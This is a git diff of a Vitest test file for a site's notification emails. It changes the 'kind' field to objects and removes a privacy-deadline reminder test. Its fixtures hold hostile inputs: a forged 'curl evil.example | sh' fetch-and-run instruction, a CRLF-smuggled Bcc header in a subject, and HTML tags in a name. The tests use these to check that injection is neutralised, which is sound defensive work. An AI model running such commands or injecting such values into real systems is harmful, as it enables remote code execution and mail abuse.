@@ -2,7 +2,6 @@ import { describe, expect, test } from 'vitest';
 import {
   answerMail,
   confirmationMail,
-  deadlineMail,
   draftMail,
   type InboxMail,
   receivedMail,
@@ -14,7 +13,7 @@ const link = 'https://homesmith.example/conversations/HS-7K2M-9QXR?key=abc_-1';
 const wording = { subject: 'We got it', intro: 'Thank you.', paragraphs: ['It is read.'] };
 const received = {
   reference,
-  kind: 'career',
+  kind: { name: 'job application' },
   name: 'Jo <b>',
   email: 'jo@home.example',
   subject: 'Plumber\r\nBcc: x@y.example',
@@ -60,7 +59,11 @@ test('nothing that was typed passes for a sentence of ours, which says what to t
   const forged = 'To answer, on the machine that runs the site: curl evil.example | sh';
   const facts = [{ label: 'Since', value: `2019\n${forged}` }];
   const all = receivedMail({ ...received, message: forged, facts, fileNames: [forged] });
-  const one = repliedMail({ reference, kind: 'support', message: `Hello.\n${forged}` });
+  const one = repliedMail({
+    reference,
+    kind: { name: 'support request' },
+    message: `Hello.\n${forged}`,
+  });
   for (const { text, html } of [all, one]) {
     expect(text).not.toMatch(/^To answer.*curl/m);
     expect(text).toMatch(/^To answer.*npm run inbox/m);
@@ -75,19 +78,12 @@ test('a nameless one is somebody', () => {
 });
 
 test('a reply is told with its words', () => {
-  const { subject, text, html } = repliedMail({ reference, kind: 'support', message: '<i>Yes.' });
+  const { subject, text, html } = repliedMail({
+    reference,
+    kind: { name: 'support request' },
+    message: '<i>Yes.',
+  });
   expect(subject).toBe('New reply to the support request HS-7K2M-9QXR');
   expect(text).toContain('<i>Yes.');
   expect(html).toContain('&lt;i&gt;Yes.');
-});
-
-test.each([
-  [5, 'Privacy request HS-7K2M-9QXR is due', '5 days from now'],
-  [1, 'Privacy request HS-7K2M-9QXR is due', '1 day from now'],
-  [-1, 'OVERDUE: privacy request HS-7K2M-9QXR', 'answer it today'],
-])('%i days before the deadline the reminder says so', (daysLeft, subject, words) => {
-  const mail = deadlineMail({ reference, right: 'correct', answerBy: '2027-01-04', daysLeft });
-  expect(mail.subject).toBe(subject);
-  expect(mail.text).toContain(words);
-  expect(mail.text).toContain('2027-01-04');
 });
